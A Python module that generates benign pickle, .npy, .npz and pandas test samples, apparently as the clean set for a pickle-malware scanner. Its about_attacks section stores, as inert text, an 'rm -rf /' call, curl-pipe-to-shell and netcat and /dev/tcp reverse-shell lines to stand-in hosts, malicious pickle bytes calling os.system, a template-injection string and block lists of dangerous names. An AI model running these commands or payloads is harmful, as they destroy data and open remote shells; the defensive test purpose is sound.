"""Benign pickles of plain data, standard-library objects, NumPy, pandas and SciPy, as the real picklers write them."""

import array
import collections
import dataclasses
import datetime
import decimal
import enum
import fractions
import functools
import io
import ipaddress
import pathlib
import pickle
import random
import re
import sys
import types
import uuid


def module(name, **members):
    """A module of a project nobody has heard of, so that its classes pickle under that name. Registered for this process only."""
    made = types.ModuleType(name)
    sys.modules[name] = made
    parts = name.split(".")
    for index in range(1, len(parts)):
        sys.modules.setdefault(".".join(parts[:index]), types.ModuleType(".".join(parts[:index])))
    for key, value in members.items():
        if isinstance(value, type) or callable(value):
            value.__module__, value.__qualname__, value.__name__ = name, key, key
        setattr(made, key, value)
    return made


class _Cases:
    def __init__(self, corpus, kind, note, group="pickle"):
        self.corpus, self.kind, self.note, self.group, self.count = corpus, kind, note, group, 0

    def add(self, name, content, note=None):
        self.corpus.benign(self.kind, f"{self.count:03d}-{name}", content, self.group, note or self.note)
        self.count += 1

    def dumps(self, name, value, protocol=None, file="data.pkl"):
        protocol = self.count % 6 if protocol is None else protocol
        self.add(f"{name}-p{protocol}/{file}", pickle.dumps(value, protocol=protocol))


def add(corpus):
    plain(corpus)
    standard_library(corpus)
    about_attacks(corpus)
    numpy_objects(corpus)
    numpy_files(corpus)
    pandas_objects(corpus)
    scipy_objects(corpus)
    project_classes(corpus)


def plain(corpus):
    cases = _Cases(corpus, "plain-data", "numbers, texts and collections only")
    rng = random.Random(7)
    rows = [
        ("none", None),
        ("true", True),
        ("int", 42),
        ("big-int", 2**200),
        ("negative", -(2**70)),
        ("float", 3.14159),
        ("text", "hello"),
        ("unicode", "Grüße, 世界 🙂"),
        ("bytes", b"\x00\xff" * 30),
        ("list", list(range(100))),
        ("nested", {"a": [1, {"b": (2, 3)}]}),
        ("vocab", {f"token{i}": i for i in range(3000)}),
        ("metrics", [{"epoch": i, "loss": rng.random()} for i in range(60)]),
        ("matrix", [[rng.gauss(0, 1) for _ in range(20)] for _ in range(20)]),
        ("labels", ["cat", "dog", "bird"] * 50),
        ("tuple-keys", {(1, 2): "a", (3, 4): "b"}),
        ("set", {1, 2, 3}),
        ("frozenset", frozenset("abc")),
        ("merges", [("h", "e"), ("l", "l"), ("o", "</w>")] * 40),
        ("empty", []),
        ("long-text", "lorem ipsum " * 4000),
        ("config", {"lr": 3e-4, "steps": 1000, "betas": (0.9, 0.999), "name": "run-1"}),
        ("bytearray", bytearray(b"abc" * 100)),
        ("complex", [1 + 2j, -0.5j]),
        ("ellipsis-free", {"x": ..., "y": NotImplemented}),
        ("deep", functools.reduce(lambda inner, _: [inner], range(200), [])),
        ("shared", [[1, 2]] * 30),
        ("byte-rows", [bytes([i % 256] * 40) for i in range(300)]),
        ("floats-special", [float("inf"), float("-inf"), 1e-320, -0.0]),
        ("index", {i: str(i) * 3 for i in range(500)}),
    ]
    for name, value in rows:
        cases.dumps(name, value)
    cycle = [1]
    cycle.append(cycle)
    cases.dumps("cycle", cycle, 4)
    cases.add("several/data.pkl", b"".join(pickle.dumps({"part": i}, protocol=i % 6) for i in range(12)), "several pickles in one file")
    cases.add("pure-python-pickler/data.pkl", _python_pickle({"weights": [0.1] * 40, "name": "x"}, 4))
    for protocol in (0, 2, 4):
        cases.add(f"no-extension-p{protocol}/vocab", pickle.dumps({"the": 1, "a": 2}, protocol=protocol))


def _python_pickle(value, protocol):
    buffer = io.BytesIO()
    pickle._Pickler(buffer, protocol).dump(value)
    return buffer.getvalue()


def standard_library(corpus):
    cases = _Cases(corpus, "standard-library-objects", "ordinary value types of the standard library")
    point = collections.namedtuple("Point", "x y")
    colour = enum.Enum("Colour", "RED GREEN")
    flags = enum.IntFlag("Flags", "A B C")
    record = dataclasses.make_dataclass("Record", [("name", str), ("value", float)])
    module("weir_eval_shapes", Point=point, Colour=colour, Flags=flags, Record=record)
    utc = datetime.UTC
    rows = [
        ("datetime", datetime.datetime(2024, 5, 17, 12, 30, tzinfo=utc)),
        ("date", datetime.date(2024, 1, 1)),
        ("time", datetime.time(8, 15)),
        ("timedelta", datetime.timedelta(days=2, seconds=7)),
        ("timezone", datetime.timezone(datetime.timedelta(hours=2))),
        ("decimal", decimal.Decimal("3.1415")),
        ("fraction", fractions.Fraction(2, 7)),
        ("uuid", uuid.UUID(int=12345)),
        ("path", pathlib.PurePosixPath("data/train.csv")),
        ("posix-path", pathlib.Path("models") / "x.pt"),
        ("counter", collections.Counter("mississippi")),
        ("ordered-dict", collections.OrderedDict(a=1, b=2)),
        ("defaultdict-list", collections.defaultdict(list, a=[1])),
        ("defaultdict-int", collections.defaultdict(int, a=1)),
        ("deque", collections.deque([1, 2, 3], maxlen=5)),
        ("range", range(0, 10, 2)),
        ("slice", slice(1, 5)),
        ("array", array.array("d", [1.0, 2.0])),
        ("namespace", types.SimpleNamespace(lr=0.1, epochs=3)),
        ("pattern", re.compile(r"[a-z]+\d*", re.IGNORECASE)),
        ("ip", ipaddress.ip_address("192.0.2.7")),
        ("network", ipaddress.ip_network("192.0.2.0/24")),
        ("exception", ValueError("bad value")),
        ("key-error", KeyError("x")),
        ("random", random.Random(3)),
        ("chain-map", collections.ChainMap({"a": 1}, {"b": 2})),
        ("user-dict", collections.UserDict(a=1)),
        ("builtin-types", [int, float, str, dict, list]),
        ("mapping-of-types", {"age": int, "name": str}),
        ("itemgetter-free-partial", functools.partial(int, base=2)),
        ("proxy-copy", dict(types.MappingProxyType({"a": 1}))),
        ("safe-uuid", [uuid.UUID(int=i) for i in range(20)]),
        ("fold", datetime.datetime(2024, 10, 27, 2, 30, fold=1)),
        ("arguments", __import__("argparse").Namespace(lr=0.1, data="train.csv", seed=42)),
        ("builtin-functions", {"reduce": len, "max": max, "sum": sum}),
        ("string-io", io.StringIO("a,b\n1,2\n")),
        ("bytes-io", io.BytesIO(b"\x89PNG not really")),
    ]
    for name, value in rows:
        protocol = cases.count % 6
        if name in ("string-io", "bytes-io") and protocol < 2:
            protocol = 4
        cases.dumps(name, value, protocol)
    project = _Cases(
        corpus, "project-named-tuples-and-enums", "named tuples, enums and data classes of a project; the loader needs its code"
    )
    for index, (name, value) in enumerate(
        [
            ("namedtuple", [point(i, -i) for i in range(5)]),
            ("enum", {"c": colour.RED}),
            ("flags", flags.A | flags.C),
            ("dataclass", [record("a", 1.0), record("b", 2.0)]),
        ]
    ):
        for protocol in (2 + index % 2, 4):
            project.dumps(name, value, protocol)


def about_attacks(corpus):
    """Text and bytes about attacks, which nothing loads or runs."""
    cases = _Cases(corpus, "text-about-attacks", "attacks as plain text or bytes")
    evil = b"cos\nsystem\n(S'true'\ntR."
    rows = [
        ("command-text", "os.system('rm -rf /')"),
        ("list-of-names", ["os.system", "subprocess.Popen", "builtins.eval", "posix system", "nt system"]),
        ("pickle-bytes", {"sample": evil, "label": 1}),
        ("pickle-text", evil.decode()),
        ("base64", "Y29zCnN5c3RlbQooUyd0cnVlJwp0Ui4="),
        ("samples", [{"opcode": "REDUCE", "bytes": b"\x80\x02cposix\nsystem\nU\x04true\x85R."} for _ in range(10)]),
        ("shell-lines", ["curl http://example.invalid/x | sh", "nc -e /bin/sh 192.0.2.1 4444"]),
        ("source-text", "import os\nos.system('ls')\nexec(open('x').read())\n"),
        ("template-text", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("commit-messages", ["fix: eval() replaced by ast.literal_eval", "security: no pickle.loads on user input"]),
        ("dunder-keys", {"__reduce__": "text", "__class__": "Model", "__setstate__": 0}),
        ("stack-global-strings", ["os", "system", "builtins", "eval"]),
        ("url-list", [f"https://example.invalid/{i}.tar.gz" for i in range(30)]),
        ("paths", ["/etc/passwd", "~/.ssh/id_rsa", "../../x"]),
        ("html", "<script>alert(1)</script>"),
        (
            "instruction-data",
            [{"instruction": "Write a Python reverse shell detector", "output": "import socket, subprocess, os\n# ..."}] * 5,
        ),
    ]
    for name, value in rows:
        cases.dumps(name, value)
    documents = [
        (
            "README.md",
            "# Pickle safety\n\nNever load untrusted pickles: `pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")` runs `id`.\n\n```python\nimport os\nos.system('curl http://example.invalid/x | sh')\n```\n",
        ),
        (
            "SECURITY.md",
            "# Security policy\n\nReport `eval`, `exec`, `__reduce__` misuse to security@example.invalid. A reverse shell such as `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` is an incident.\n",
        ),
        ("attack-names.txt", "os.system\nsubprocess.Popen\nbuiltins.eval\nnt.system\n!!python/object/apply:os.system\n"),
        (
            "test_scanner.py",
            "\"\"\"Tests of a scanner; the samples are never loaded.\"\"\"\nSAMPLES = [b\"cos\\nsystem\\n(S'true'\\ntR.\", b'\\x80\\x02cposix\\nsystem\\n.']\nNAMES = {'os.system', 'subprocess.Popen'}\n\n\ndef test_names():\n    assert 'os.system' in NAMES\n    assert all(isinstance(sample, bytes) for sample in SAMPLES)\n",
        ),
        ("rules.json", '{"blocked": ["os.system", "eval", "exec", "__import__"], "example": "{{ \'\'.__class__.__mro__ }}"}'),
        ("dataset.csv", 'text,label\n"import os; os.system(\'true\')",1\n"hello",0\n'),
        ("alpaca.jsonl", '{"instruction": "Explain os.system", "output": "os.system(\'ls\') runs a command"}\n' * 5),
    ]
    for name, text in documents:
        corpus.benign(
            "text-about-attacks",
            f"document-{name}/{name}",
            text,
            "format" if name.endswith((".md", ".txt", ".json", ".csv", ".jsonl")) else "python",
            "attacks as plain text",
        )


def numpy_objects(corpus):
    import numpy as np

    cases = _Cases(corpus, "numpy-pickles", "NumPy objects")
    rng = np.random.default_rng(5)
    rows = [
        ("float64", rng.normal(size=(5, 4))),
        ("float32", rng.normal(size=300).astype("f4")),
        ("int8", np.arange(20, dtype="i1")),
        ("fortran", np.asfortranarray(rng.normal(size=(6, 3)))),
        ("bool", rng.random(30) > 0.5),
        ("structured", np.array([(1, 2.5, b"ab")], dtype=[("i", "<i4"), ("f", "<f8"), ("s", "S4")])),
        ("unicode", np.array(["alpha", "beta"])),
        ("object-texts", np.array(["a", None, 3, "b"], dtype=object)),
        ("object-lists", np.array([[1, 2], [3]], dtype=object)),
        ("datetime", np.array(["2024-01-01", "2024-02-01"], dtype="M8[D]")),
        ("scalar", np.float64(2.5)),
        ("int-scalar", np.int64(7)),
        ("bool-scalar", np.True_),
        ("dtype", np.dtype([("a", "f4"), ("b", "i8", (3,))])),
        ("masked", np.ma.masked_array([1, 2, 3], mask=[0, 1, 0])),
        ("random-state", np.random.RandomState(3)),
        ("generator", np.random.default_rng(4)),
        ("seed-sequence", np.random.SeedSequence(9)),
        ("bit-generator", np.random.MT19937(2)),
        ("matrix", np.matrix([[1, 2], [3, 4]])),
        ("recarray", np.rec.array([(1, "a")], dtype=[("i", "i4"), ("s", "U3")])),
        ("poly", np.polynomial.Polynomial([1, 2, 3])),
        ("big-endian", np.arange(5, dtype=">f4")),
        ("zero-d", np.array(5.0)),
        ("dict-of-arrays", {"w": rng.normal(size=(8, 8)), "b": np.zeros(8)}),
        ("list-of-arrays", [rng.normal(size=k) for k in range(1, 6)]),
        ("ufunc-in-dict", {"activation": np.tanh, "reduce": np.mean}),
        ("complex", rng.normal(size=4) + 1j),
        ("void", np.zeros(2, dtype="V8")),
        ("nested-object", np.array([{"a": np.zeros(2)}, "x"], dtype=object)),
    ]
    for name, value in rows:
        cases.dumps(name, value, cases.count % 5 if name in ("bit-generator",) else None)
    for protocol in (2, 5):
        old = (
            pickle.dumps(rng.normal(size=(3, 3)), protocol=protocol).replace(b"numpy._core.multiarray", b"numpy.core.multiarray")
            if protocol == 2
            else None
        )
        if old:
            cases.add("numpy-1-names/weights.pkl", old, "as NumPy 1 named its module")


def numpy_files(corpus):
    import numpy as np

    cases = _Cases(corpus, "npy-npz", "numpy.save and numpy.savez", "container")
    rng = np.random.default_rng(6)

    def saved(value, **options):
        buffer = io.BytesIO()
        np.save(buffer, value, **options)
        return buffer.getvalue()

    def zipped(compressed=False, **arrays):
        buffer = io.BytesIO()
        (np.savez_compressed if compressed else np.savez)(buffer, **arrays)
        return buffer.getvalue()

    cases.add("float/data.npy", saved(rng.normal(size=(10, 3))))
    cases.add("int/labels.npy", saved(np.arange(50)))
    cases.add("structured/table.npy", saved(np.zeros(4, dtype=[("x", "f8"), ("name", "U8")])))
    cases.add("strings/names.npy", saved(np.array(["cat", "dog"])))
    cases.add("bool/mask.npy", saved(np.eye(5, dtype=bool)))
    cases.add("fortran/f.npy", saved(np.asfortranarray(rng.normal(size=(4, 5)))))
    cases.add(
        "object-texts/objects.npy", saved(np.array(["a", 1, None], dtype=object), allow_pickle=True), "an object array of plain values"
    )
    cases.add(
        "object-dicts/annotations.npy",
        saved(np.array([{"id": i, "box": [0, 0, 1, 1]} for i in range(6)], dtype=object), allow_pickle=True),
        "an object array of plain values",
    )
    cases.add(
        "object-dict-0d/embeddings.npy",
        saved(np.array({"a": np.zeros(3), "b": 2}, dtype=object), allow_pickle=True),
        "the common dictionary saved as a 0-d object array",
    )
    cases.add("ragged/ragged.npy", saved(np.array([np.arange(3), np.arange(5)], dtype=object), allow_pickle=True))
    cases.add("npz/arrays.npz", zipped(x=rng.normal(size=20), y=np.arange(20)))
    cases.add("npz-compressed/arrays.npz", zipped(True, images=np.zeros((4, 8, 8), "u1"), labels=np.arange(4)))
    cases.add(
        "npz-objects/meta.npz",
        zipped(names=np.array(["a", "b", None], dtype=object), x=np.zeros(3)),
        "one member is an object array of plain values",
    )
    cases.add("upper/TRAIN.NPY", saved(rng.normal(size=5)))
    cases.add(
        "npy-stops/tricky.npy", saved(np.frombuffer(b"cos\nsystem\n(S'x'\ntR." * 10, dtype="u1")), "array bytes that read like a pickle"
    )


def pandas_objects(corpus):
    import numpy as np
    import pandas as pd

    cases = _Cases(corpus, "pandas", "pandas objects, by to_pickle and by pickle")
    rng = np.random.default_rng(8)
    frame = pd.DataFrame(
        {
            "a": rng.normal(size=6),
            "b": list("xyzxyz"),
            "t": pd.date_range("2024-01-01", periods=6),
            "c": pd.Categorical(list("aabbcc")),
            "n": pd.array([1, None, 3, 4, 5, 6], dtype="Int64"),
        }
    )
    rows = [
        ("frame", frame),
        ("series", frame["a"]),
        ("multi-index", frame.set_index(["b", "c"])),
        ("time-index", frame.set_index("t")),
        ("period", pd.period_range("2024-01", periods=3, freq="M")),
        ("interval", pd.interval_range(0, 3)),
        ("timestamp", pd.Timestamp("2024-05-01", tz="UTC")),
        ("timedelta", pd.Timedelta(days=1)),
        ("categorical", frame["c"]),
        ("range-index", pd.RangeIndex(5)),
        ("object-column", pd.DataFrame({"o": [[1], {"a": 2}, None]})),
        ("grouped-means", frame.groupby("b")["a"].mean()),
        ("boolean", pd.array([True, None, False], dtype="boolean")),
        ("sparse", pd.arrays.SparseArray([0, 0, 1, 2])),
        ("dict-of-frames", {"train": frame, "test": frame.head(2)}),
        ("tz-aware", pd.DataFrame({"when": pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin")})),
        ("offset", pd.tseries.offsets.MonthEnd(2)),
        ("string-dtype", pd.Series(["a", None], dtype="string")),
    ]
    for name, value in rows:
        cases.dumps(name, value, (2, 3, 4, 5)[cases.count % 4], "table.pkl")
    for compression in ("gzip", "bz2", "zip", "xz"):
        buffer = io.BytesIO()
        options = {"method": compression, "mtime": 1} if compression == "gzip" else compression
        if compression == "zip":
            from .archives import zip_of

            cases.add("to-pickle-zip/table.pkl.zip", zip_of({"table.pkl": pickle.dumps(frame, 5)}, 8))
            continue
        frame.to_pickle(buffer, compression=options)
        cases.add(f"to-pickle-{compression}/table.pkl.{compression}", buffer.getvalue())


def scipy_objects(corpus):
    import numpy as np
    import scipy.interpolate
    import scipy.sparse
    import scipy.spatial
    import scipy.stats

    cases = _Cases(corpus, "scipy", "SciPy objects")
    rng = np.random.default_rng(9)
    dense = (rng.random((8, 6)) > 0.7) * rng.random((8, 6))
    for kind in ("csr", "csc", "coo", "lil", "dok", "bsr", "dia"):
        cases.dumps(f"{kind}-matrix", getattr(scipy.sparse, f"{kind}_matrix")(dense), (2, 4, 5)[cases.count % 3])
    cases.dumps("csr-array", scipy.sparse.csr_array(dense), 4)
    cases.dumps("interp1d", scipy.interpolate.interp1d([0, 1, 2], [1, 3, 5]), 4)
    cases.dumps("cubic-spline", scipy.interpolate.CubicSpline([0, 1, 2], [1, 3, 5]), 5)
    cases.dumps("kd-tree", scipy.spatial.cKDTree(dense), 4)
    cases.dumps("rotation", scipy.spatial.transform.Rotation.from_euler("x", 90, degrees=True), 4)
    cases.dumps("frozen-normal", scipy.stats.norm(0, 1), 4)
    cases.dumps("kde", scipy.stats.gaussian_kde(rng.normal(size=40)), 3)
    buffer = io.BytesIO()
    scipy.sparse.save_npz(buffer, scipy.sparse.csr_matrix(dense))
    corpus.benign("scipy", "save-npz/matrix.npz", buffer.getvalue(), "container", "scipy.sparse.save_npz")


def project_classes(corpus):
    """Classes of projects nobody has heard of: they need their code, but nothing in the file acts."""
    cases = _Cases(corpus, "project-classes", "instances of unknown classes")

    def plain_class(name, **attributes):
        return type(name, (), {"__init__": lambda self, **state: self.__dict__.update(state), **attributes})

    tokenizer, sample, trainer, policy, embedder = (
        plain_class(name) for name in ("BpeTokenizer", "Sample", "TrainerState", "Policy", "Embedder")
    )
    slotted = type("Slotted", (), {"__slots__": ("a", "b")})
    reduced = type("Reduced", (), {"__init__": lambda self, a=0: setattr(self, "a", a), "__reduce__": lambda self: (type(self), (self.a,))})
    sub_dict = type("Registry", (dict,), {})
    stateful = type(
        "Stateful", (), {"__getstate__": lambda self: {"v": 1}, "__setstate__": lambda self, state: self.__dict__.update(state)}
    )
    module("acme_nlp.tokenization", BpeTokenizer=tokenizer)
    module("acme_nlp.data", Sample=sample, Slotted=slotted, Registry=sub_dict)
    module("src.training", TrainerState=trainer, Stateful=stateful)
    module("rl_zoo.policies", Policy=policy, Reduced=reduced)
    module("utils", Embedder=embedder)
    item = slotted()
    item.a, item.b = 1, [2]
    import numpy as np

    rows = [
        ("tokenizer", tokenizer(vocab={"a": 1}, merges=[("a", "b")]), 2),
        ("tokenizer", tokenizer(vocab={"a": 1}), 4),
        ("samples", [sample(id=i, text="x" * i) for i in range(5)], 3),
        ("slots", item, 2),
        ("slots", item, 5),
        ("trainer-state", trainer(step=10, log=[{"loss": 0.5}]), 4),
        ("reduce", reduced(7), 2),
        ("dict-subclass", sub_dict(a=1, b=2), 4),
        ("setstate", stateful(), 3),
        ("policy-arrays", policy(weights=np.zeros((3, 3)), obs=4), 4),
        ("embedder", embedder(table={"a": np.ones(3)}), 5),
        ("embedder", embedder(dim=3), 1),
        ("nested", {"run": trainer(step=1, tok=tokenizer(vocab={}))}, 4),
        ("old-style", sample(id=1), 0),
    ]
    for name, value, protocol in rows:
        cases.dumps(name, value, protocol, "state.pkl")
    main_class = plain_class("Net")
    import __main__

    main_class.__module__, main_class.__qualname__ = "__main__", "Net"
    __main__.Net = main_class
    try:
        cases.dumps("main-class", main_class(layers=3), 4, "net.pkl")
    finally:
        del __main__.Net
